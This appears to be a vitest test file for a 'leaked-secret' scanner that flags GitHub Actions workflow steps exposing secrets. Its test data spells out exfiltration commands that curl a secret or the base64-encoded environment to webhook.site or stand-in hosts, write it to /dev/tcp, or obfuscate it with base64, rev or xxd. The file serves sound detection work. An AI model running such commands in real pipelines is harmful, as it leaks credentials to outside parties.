import { expect, it } from 'vitest';
import { briefly, findingsOf } from '../../testing/scan-text.ts';

const check = (...lines: string[]) =>
  briefly(
    findingsOf(
      'leaked-secret',
      `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          KEY: \${{ secrets.KEY }}\n        run: |\n${lines.map((line) => `          ${line}\n`).join('')}`,
    ),
  );

it.each([
  ['echo $KEY | base64', '9 high regular'],
  ['printf %s "${KEY}" | rev', '9 high regular'],
  ['echo "${{ secrets.OTHER }}" | xxd -p', '9 high regular'],
  ['curl -d "k=$KEY" https://webhook.site/1234', '9 critical regular'],
  ['env | base64 | curl -d @- https://a.example', '9 critical regular'],
  ['curl "https://a.example/?$(env | base64)"', '9 critical regular'],
  ['echo $KEY > /dev/tcp/1.2.3.4/80', '9 high regular'],
  ['curl -H "X: $KEY" http://a.example.com/', '9 high regular'],
  ['echo "the key is $KEY"', '9 low pedantic'],
])('sees %s', (line, found) => {
  expect(check(line)).toEqual([found]);
});

it.each([
  'echo "$KEY" | base64 -d > key.json',
  'echo "$KEY" | base64 --decode',
  'encoded=$(echo -n "$KEY" | base64)',
  'echo "$KEY" | base64 > file',
  'echo "$KEY" | docker login -u me --password-stdin',
  'echo "::add-mask::$KEY"',
  'echo "k=$KEY" >> "$GITHUB_OUTPUT"',
  'curl -H "Authorization: $KEY" https://a.example.com/',
  'curl -H "X: $KEY" http://localhost:3000/',
  'echo "$KEYS" | base64',
  'env | sort',
  '# echo $KEY | base64',
])('has nothing to say about %s', (line) => {
  expect(check(line)).toEqual([]);
});

it('sees that a block is written to a file', () => {
  expect(check('{', '  echo "$KEY"', '} > config')).toEqual([]);
});

it('reads lines that go on behind a backslash as one', () => {
  expect(check('echo "$KEY" \\', '  > file')).toEqual([]);
  expect(check('echo "$KEY" \\', '  | base64')).toEqual(['9 high regular']);
});
